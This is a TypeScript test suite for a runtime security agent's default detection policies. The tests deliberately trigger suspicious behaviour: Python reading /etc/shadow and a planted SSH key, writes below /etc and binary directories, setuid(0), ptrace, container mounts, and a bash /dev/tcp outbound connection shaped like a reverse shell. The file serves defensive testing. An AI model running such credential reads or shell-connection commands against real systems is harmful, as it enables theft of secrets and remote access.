// The default policy pack (policies/) in the real kernel: each policy fires on
// the behaviour it describes, once per rate-limit window, and allow-listed
// programs stay quiet.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { type PolicyEvent, type SecurityEvent, defaultPolicyDir, isPolicyEvent } from '../../src/security/index.js';
import { type Harness, PYTHON, run, startAgent } from './harness.js';

let h: Harness;
let dir: string;
const tag = `waggle-test-${process.pid}`;

before(async () => {
  dir = mkdtempSync('/tmp/waggle-pack-');
  mkdirSync(join(dir, '.ssh'));
  writeFileSync(join(dir, '.ssh', 'id_ed25519'), 'KEY');
  h = await startAgent({ policyPaths: [defaultPolicyDir()] });
});
after(async () => {
  await h.close();
  rmSync(dir, { recursive: true, force: true });
  rmSync(`/etc/${tag}`, { force: true });
  rmSync(`/usr/local/bin/${tag}`, { force: true });
  rmSync(`/usr/lib/${tag}.pyc`, { force: true });
});

const fromPid = (pid: number) => (e: SecurityEvent): e is PolicyEvent => isPolicyEvent(e) && e.process.pid === pid;
const summary = (evs: PolicyEvent[]) => evs.map((e) => [e.policy, e.type, e.action, e.dry_run]);

test('every hook of the pack is attached except those this kernel lacks', () => {
  const inactive = h.agent.stats().policies.filter((p) => !p.active);
  assert.ok(inactive.every((p) => p.hook === 'module_load'), JSON.stringify(inactive));
  assert.equal(h.warnings.length, inactive.length);
});

test('sensitive files read by an untrusted program: reported once per minute per process and file', async () => {
  const script = `for p in ["/etc/shadow", "/etc/shadow", ${JSON.stringify(join(dir, '.ssh', 'id_ed25519'))}, "/etc/hostname"]: open(p).read()`;
  const r = run(PYTHON, ['-c', script]);
  assert.equal(r.status, 0, r.stderr);
  const evs = await h.waitFor<PolicyEvent>(2, fromPid(r.pid));
  assert.deepEqual(summary(evs), [
    ['read-sensitive-file-untrusted', 'file_open', 'post', false],
    ['read-sensitive-file-untrusted', 'file_open', 'post', false],
  ]);
  assert.deepEqual(
    evs.map((e) => (e.type === 'file_open' ? e.file.path : '')),
    ['/etc/shadow', join(dir, '.ssh', 'id_ed25519')],
  );
  assert.equal(evs[0]!.severity, 'warning');
});

test('writes below /etc and below binary directories; interpreter bytecode is not reported', async () => {
  const script = [`open("/etc/${tag}", "w").close()`, `open("/usr/local/bin/${tag}", "w").close()`, `open("/usr/lib/${tag}.pyc", "w").close()`, 'open("/etc/hostname").read()'].join('\n');
  const r = run(PYTHON, ['-c', script]);
  assert.equal(r.status, 0, r.stderr);
  const evs = await h.waitFor<PolicyEvent>(2, fromPid(r.pid));
  assert.deepEqual(summary(evs), [
    ['write-below-etc', 'file_open', 'post', false],
    ['write-below-binary-dir', 'file_open', 'post', false],
  ]);
});

test('ptrace attach', async () => {
  const r = run('/usr/bin/strace', ['-o', '/dev/null', '/usr/bin/true']);
  const evs = await h.waitFor<PolicyEvent>(1, fromPid(r.pid));
  assert.deepEqual(summary(evs).slice(0, 1), [['ptrace-attach', 'ptrace', 'post', false]]);
});

test('a shell connecting out (reverse-shell shape); loopback is fine', async () => {
  const r = run('/usr/bin/timeout', ['1', '/usr/bin/bash', '-c', 'exec 3<>/dev/tcp/127.0.0.1/9; exec 3<>/dev/tcp/192.0.2.1/9']);
  const [bash] = await h.waitFor(1, (e) => e.type === 'process_exec' && e.process.binary === '/usr/bin/bash' && e.process.parent?.pid === r.pid);
  const evs = await h.waitFor<PolicyEvent>(1, fromPid(bash!.process.pid));
  assert.deepEqual(summary(evs), [['unexpected-outbound-connection', 'connect', 'post', false]]);
  assert.equal(evs[0]!.type === 'connect' && evs[0]!.destination.address, '192.0.2.1');
});

test('setuid by a non-root program that is not sudo', async () => {
  const r = run(PYTHON, ['-c', 'import os\nos.setuid(0)\nos.setresuid(65534, 65534, 65534)\nos.setuid(65534)']);
  assert.equal(r.status, 0, r.stderr);
  const evs = await h.waitFor<PolicyEvent>(1, fromPid(r.pid));
  assert.deepEqual(summary(evs), [['non-sudo-setuid', 'setuid', 'post', false]]);
});

test('mount inside a container, not on the host', async () => {
  const mnt = join(dir, 'mnt');
  mkdirSync(mnt);
  const host = run('/usr/bin/unshare', ['-m', '--propagation', 'private', '/usr/bin/mount', '-t', 'tmpfs', 'none', mnt]);
  const contained = run('/usr/bin/unshare', ['-m', '-p', '-f', '--propagation', 'private', '/usr/bin/mount', '-t', 'tmpfs', 'none', mnt]);
  assert.equal(host.status, 0, host.stderr);
  assert.equal(contained.status, 0, contained.stderr);
  const evs = await h.waitFor<PolicyEvent>(2, (e) => isPolicyEvent(e) && e.type === 'mount');
  // unshare -f sets mount propagation from its child, inside the new namespaces, then mount runs.
  assert.deepEqual(
    evs.map((e) => [e.policy, e.process.binary, e.type === 'mount' ? e.mount.target : '', e.process.in_container]),
    [
      ['mount-in-container', '/usr/bin/unshare', '/', true], // mount("none", "/", NULL, MS_REC|MS_PRIVATE)
      ['mount-in-container', '/usr/bin/mount', mnt, true],
    ],
  );
});

test('the agent reported nothing about itself, and lost nothing', () => {
  assert.deepEqual(h.current((e) => isPolicyEvent(e) && e.process.pid === process.pid), []);
  const s = h.agent.stats();
  assert.equal(s.ringBuffer.kernelDrops, 0);
  assert.equal(s.lifecycle.drops, 0);
});
